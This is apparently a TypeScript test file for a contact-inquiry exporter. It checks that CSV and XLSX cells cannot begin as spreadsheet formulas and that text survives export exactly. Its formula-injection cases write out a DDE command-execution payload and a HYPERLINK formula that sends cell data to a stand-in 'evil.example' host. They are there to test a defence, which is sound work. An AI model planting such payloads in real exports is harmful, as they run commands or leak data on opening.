import { buffer, text } from 'node:stream/consumers';
import { inflateRawSync } from 'node:zlib';
import fc from 'fast-check';
import { readXlsx } from 'hucre/xlsx';
import { describe, expect, it } from 'vitest';
import { csvOf, jsonOf, xlsxOf } from '#infra/inquiries/export-formats.ts';
import type { StoredInquiry } from '#lambda/inquiry/stored-inquiry.ts';
import { character } from '#test/support/measure/character.ts';
import { storedInquiry } from './stored-inquiry.ts';

/** Cells of each row after the header, read as RFC 4180 defines CSV. Every cell is in quotes. */
function cellsOf(csv: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted = '', end] of csv.matchAll(/"((?:[^"]|"")*)"(,|\r\n)/g)) {
    rows.at(-1)?.push(quoted.replaceAll('""', '"'));
    if (end === '\r\n') rows.push([]);
  }
  return rows.slice(1, -1);
}

const anyText = fc.string({ unit: character });
const comments = (texts: readonly string[]) => texts.map((comment) => storedInquiry({ comment }));

/** What a spreadsheet makes of comments. */
const cellsOfComments = async (texts: readonly string[]) =>
  cellsOf(await text(csvOf(comments(texts)))).map((row) => row[5]);

const signs = '=+-@＝＋－＠﹦﹢﹣﹫−⁺₌⩵≠';
const starts = [
  ...signs,
  ' =',
  '\t=',
  '\r=',
  '\u00a0=',
  '\u3000＝',
  '\u200b=',
  '\ufeff+',
  '\u0000=',
  '"=',
  '\u2800@',
];
const separators = [',', ';', '\t', '|', '\n', '\r', '\u2028'];

describe('a cell of the CSV', () => {
  it('is text for a spreadsheet, in 600 formulas however they begin, and after a separator too', async () => {
    const calls = ['1+1', "cmd|' /C calc'!A0", 'HYPERLINK("https://evil.example?"&A1)', 'A1'];
    const formulas = starts.flatMap((start) => calls.map((called) => start.trim() + called));
    const texts = formulas.flatMap((formula) => [
      [formula, `'${formula}`],
      ...separators.map((separator) => [`a${separator}${formula}`, `a${separator}'${formula}`]),
    ]);
    expect(new Set(texts.map(String)).size).toBeGreaterThanOrEqual(600);
    expect(await cellsOfComments(texts.map(([typed = '']) => typed))).toEqual(texts.map(([, cell]) => cell));
  });

  it('never begins as a formula does, whatever separates cells, and holds all of the text', async () => {
    const part = fc.tuple(fc.constantFrom('', ...separators), fc.constantFrom('', '"', ...starts), anyText);
    const typed = fc.array(part, { maxLength: 4 }).map((parts) => parts.flat().join(''));
    const start = /^["\s\p{C}\p{Z}\u2800]*[=+\-@\u2212]/u;
    await fc.assert(
      fc.asyncProperty(
        fc.array(typed, { minLength: 1, maxLength: 20 }),
        fc.constantFrom(',', ';', '\t', '|'),
        async (texts, separator) => {
          const csv = await text(csvOf(comments(texts)));
          // Whether a program takes quotation marks into account or not, no cell begins elsewhere.
          for (const cell of csv.split(/[\r\n]/).flatMap((line) => line.split(separator)))
            expect(cell.normalize('NFKD')).not.toMatch(start);
          const withoutApostrophes = (list: readonly string[]) => list.map((s) => s.replaceAll("'", ''));
          expect(withoutApostrophes(cellsOf(csv).map((row) => row[5] ?? ''))).toEqual(
            withoutApostrophes(texts),
          );
        },
      ),
    );
  });

  it('is left alone when it is no formula', async () => {
    const plain = [
      "O'Neill",
      'a=b',
      '1-2',
      'x@example.com',
      '',
      '你好',
      '🙂 +1',
      ' a',
      'a"b","c\r\nd;e',
      'a, b - c',
    ];
    expect(await cellsOfComments(plain)).toEqual(plain);
  });
});

describe('a workbook', () => {
  const cellsIn = async (inquiries: readonly StoredInquiry[]) => {
    const { sheets } = await readXlsx(await buffer(xlsxOf(inquiries)));
    return sheets[0]?.rows ?? [];
  };

  it('has the columns of the CSV, all of them text', async () => {
    const inquiry = storedInquiry({ suspect: ['fast', 'name'], notifiedAt: 't3' });
    const [header, row] = await cellsIn([inquiry]);
    expect(header?.join()).toBe((await text(csvOf([]))).trim().replaceAll('"', ''));
    expect(row).toEqual([
      ...[inquiry.id, inquiry.receivedAt, inquiry.name, inquiry.email, inquiry.phoneNumber, inquiry.comment],
      ...['fast name', '', 't3', ''],
    ]);
  });

  it('holds every text exactly', async () => {
    const likeCodes = [
      '_x0041_',
      '_x005F_x0041_',
      '_x000d_',
      '_x00zz_',
      '\ufffe',
      '\uffff',
      '007',
      '1e5',
      '1/2',
      'TRUE',
    ];
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.tuple(fc.constantFrom('', ...starts, ...likeCodes), anyText)),
        async (parts) => {
          const texts = parts.map((part) => part.join(''));
          const [, ...rows] = await cellsIn(comments(texts));
          expect(rows.map((row) => row[5])).toEqual(texts);
        },
      ),
    );
  });

  it('has no character that XML does not allow, for which a program would refuse all of it', async () => {
    const file = await buffer(xlsxOf(comments(['a\ufffeb\uffffc\u0001d'])));
    // The sheet is the first file in the archive, after a header of 30 bytes and its name.
    const sheet = inflateRawSync(
      file.subarray(30 + file.readUInt16LE(26) + file.readUInt16LE(28)),
    ).toString();
    expect(sheet).toContain('a_xFFFE_b_xFFFF_c_x0001_d');
  });
});

describe('CSV', () => {
  /** These columns never move: spreadsheets and programs of the owner may count on them. New ones follow them. */
  const header =
    '\ufeff"id","receivedAt","name","email","phoneNumber","comment","suspect","repeatedAt","notifiedAt","pagePath"';

  it('begins with a byte order mark and a header, and keeps every digit of a phone number as text', async () => {
    // Not `text`, which removes the mark.
    const bytes = await buffer(
      csvOf([storedInquiry({ phoneNumber: '+12015550123', pagePath: '/contact-us' })]),
    );
    const [first, second, end] = bytes.toString().split('\r\n');
    expect(first?.slice(0, header.length)).toBe(header);
    expect(second).toMatch(
      /^"iAbc","2026-11-21T09:06:00.123Z","Asha","asha@example.com","'\+12015550123","Hello","","","","\/contact-us"/,
    );
    expect(end).toBe('');
  });

  it('is a header when there is nothing', async () => {
    expect((await buffer(csvOf([]))).toString()).toMatch(/^\ufeff"id",[^\r\n]*\r\n$/);
  });

  it('says in its last cells why an inquiry is suspect, when it came again and when it was mailed', async () => {
    const [row] = cellsOf(
      await text(
        csvOf([storedInquiry({ suspect: ['fast', 'name'], repeatedAt: ['t1', 't2'], notifiedAt: 't3' })]),
      ),
    );
    expect(row?.slice(6, 10)).toEqual(['fast name', 't1 t2', 't3', '']);
  });
});

describe('JSON', () => {
  const parsed = async (inquiries: readonly StoredInquiry[]) => JSON.parse(await text(jsonOf(inquiries)));
  const { lastReceivedAt, expiresAt, repeatedAt, suspect, attempts, refusals, ...always } = storedInquiry({
    comment: '=1"é\n🙂',
  });

  it.each([0, 1, 3])('is one array of %i, without the fields that are empty', async (count) => {
    const inquiry = storedInquiry(always);
    const inquiries = Array.from({ length: count }, () => inquiry);
    expect(await parsed(inquiries)).toEqual(inquiries.map(() => always));
  });

  it('has the marks, the repeats and the time of the mail', async () => {
    const more = { suspect: ['fast'], repeatedAt: ['t1'], notifiedAt: 't3', pagePath: '/' };
    expect(await parsed([storedInquiry({ ...always, ...more })])).toEqual([{ ...always, ...more }]);
  });
});
